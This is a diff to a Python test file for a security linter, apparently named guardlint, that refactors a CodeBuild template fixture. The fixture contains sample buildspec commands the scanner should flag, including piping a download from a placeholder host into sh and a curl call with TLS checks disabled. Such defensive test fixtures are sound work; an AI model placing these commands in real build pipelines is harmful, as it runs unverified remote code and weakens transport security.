@@ -9,7 +9,7 @@ import pytest
 
 from guardlint.rulebook import load_rulebook
 from tests.checks.codebuild import CODEBUILD
-from tests.conftest import ROOT, findings_of, lines_of, run_scan, write_file
+from tests.conftest import NEVER_OR_MAYBE, ROOT, findings_of, lines_of, run_scan, write_file
 
 # (rule, fixture directory) -> lines the rule must report there, and nothing else.
 EXPECTED_LINES = {
@@ -109,14 +109,9 @@ def test_catalogue_contract_of_the_codebuild_rows():
         assert (rule.name, rule.severity.label, rule.category) == (name, severity, category)
 
 
-_CONDITIONAL_PROJECT = """AWSTemplateFormatVersion: "2010-09-09"
-Parameters:
-  Env: {Type: String}
-Conditions:
-  Never: !Equals [a, b]
-  Maybe: !Equals [!Ref Env, prod]
-Resources:
-  Build:
+_CONDITIONAL_PROJECT = (
+    NEVER_OR_MAYBE
+    + """  Build:
     Type: AWS::CodeBuild::Project
     Condition: COND
     Properties:
@@ -145,6 +140,7 @@ Resources:
                 - curl -s https://x.example | sh
                 - curl --insecure https://x.example/data
 """
+)
 
 
 def test_a_project_never_created_is_judged_only_for_its_secrets(tmp_path):
